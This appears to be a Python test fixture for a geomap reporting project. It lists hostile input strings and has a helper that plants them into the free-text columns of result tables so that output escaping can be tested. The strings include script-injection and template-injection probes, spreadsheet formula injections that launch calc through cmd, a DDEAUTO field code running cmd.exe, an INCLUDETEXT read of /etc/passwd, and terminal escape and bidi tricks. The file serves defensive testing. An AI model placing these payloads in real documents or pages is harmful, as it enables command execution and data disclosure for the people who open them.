"""Texts that would run, vanish, mislead or break a file if they were ever taken for code; and a way to plant them."""

from __future__ import annotations

import dataclasses
from collections.abc import Sequence

import pandas as pd

from geomap.schema import ResultTables

SCRIPT = (
    "<script>window.hit = 1</script>", "</script><script>window.hit = 2</script>", "<svg/onload=window.hit=3>",
    "<iframe srcdoc='<script>parent.hit=4</script>'>", "javascript:window.hit = 5", "<!--geomap:data-->", "]]><!--",
)  # fmt: skip
ATTRIBUTE = (
    "\"'><img src=x onerror='window.hit = 6'>", "x\" onmouseover=\"window.hit = 7", "' style='position:fixed' a='",
    "src=https://example.org/a.js url(https://example.org/b.png)",
)  # fmt: skip
TEMPLATE = (
    "{{ 7*7 }}", "{% raw %}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# gone #}kept", "${window.hit = 8}", "`window.hit = 9`", "%(name)s %s {0} {name!r}", "__proto__", "constructor",
)  # fmt: skip
ENTITIES = ("swimming & diving &amp; more", "&lt;b&gt;", "&#60;b&#62;", "\\u003cb\\u003e \\", "&NotAnEntity;", "\\n\\t")
FORMULA = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?"&A1,"Help")', "=WEBSERVICE(\"https://example.org\")", "\t=1+1", "\uff1d1+1",
    "\uff0b1", "\uff0d1", "\uff20SUM(1)", "'=1+1", "{=1+1}", "https://example.org/a", "mailto:someone@example.org",
    "internal:Summary!A1", "external:c:\\a.xlsx", "_x0041_",
)  # fmt: skip
FIELD_CODE = (
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }', '{ INCLUDETEXT "/etc/passwd" }', "<w:fldSimple/>",
)  # fmt: skip
ESCAPE_SEQUENCE = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H gone", "\x1b]0;title\x07", "\x1b]8;;https://example.org\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mred", "\x9d0;title\x9c", "bell\x07", "NOT\x08\x08\x08   ", "\x7f\x7f", "\x1bc", "\x0esmile\x0f",
)  # fmt: skip
DIRECTION = ("\u202eright to left", "\u2066isolated", "\u200fmark", "\u061cletter mark", "a\u202e0,0001 detacof")
INVISIBLE = ("zero\u200bwidth", "joined\u200d\u2060up", "\ufeffmark first", "soft\u00adhyphen", "tag\U000e0041s")
LINES = ("line\u2028separator\u2029end", "two\nlines", "form\x0cfeed\x0bvertical", "next\x85line")
LONG = ("x" * 40_000, "<b>" * 2_000)
KINDS = {
    "script": SCRIPT, "attribute": ATTRIBUTE, "template": TEMPLATE, "entities": ENTITIES, "formula": FORMULA,
    "field_code": FIELD_CODE, "escape_sequence": ESCAPE_SEQUENCE, "direction": DIRECTION, "invisible": INVISIBLE,
    "line_break": LINES,
}  # fmt: skip
"""A file cannot hold NUL or half of a pair of surrogates as text: those are refused when they are read."""
HOSTILE_TEXTS = tuple(text for texts in KINDS.values() for text in texts)

OPEN = {
    "pcn_name", "icb_name", "region_name", "facility_name", "operator_name", "pathway_name", "practice_name",
    "sub_icb_name", "area_name", "place_name", "note", "since", "source", "sheet", "site_name", "comparator_name",
    "name", "sentence", "updated", "value", "problem", "opportunity_name", "venue_name", "ask_name", "offers",
    "activities", "url",
}  # fmt: skip
"""Columns of published tables whose text is anybody's; of the others, keys and codes, a run knows all values."""


KNOWN_FROM = {"opportunity_id", "ask_id"}
"""Tables with one of these say in `source` which list a row is from, in words of their own."""


def open_columns(frame: pd.DataFrame) -> list[str]:
    """Columns of text that is anybody's."""
    closed = {"source"} if KNOWN_FROM & set(frame.columns) else set()
    return sorted((OPEN - closed) & set(frame.select_dtypes(["str", "object"]).columns))


def plant(tables: ResultTables, texts: Sequence[str]) -> ResultTables:
    """A run with these texts in turn wherever text can come from an input, in each row of each column."""
    facts = dataclasses.replace(
        tables.facts, name=texts[0], label=texts[-1], notes=tuple(texts), changes=tuple(texts),
        sources=tuple((text, text, text) for text in texts),
    )  # fmt: skip
    return dataclasses.replace(_planted(tables, texts), facts=facts)


def _planted(holder: ResultTables, texts: Sequence[str]) -> ResultTables:
    new = {}
    for field in dataclasses.fields(holder):
        value = getattr(holder, field.name)
        if isinstance(value, pd.DataFrame):
            turn = pd.Series([texts[k % len(texts)] for k in range(len(value))], dtype="str", index=value.index)
            new[field.name] = value.assign(**dict.fromkeys(open_columns(value), turn))
        elif field.name == "choice" and value is not None:
            told = {"conditions": tuple(texts), "notes": tuple(texts)}
            new[field.name] = dataclasses.replace(_planted(value, texts), **told)
    return dataclasses.replace(holder, **new)
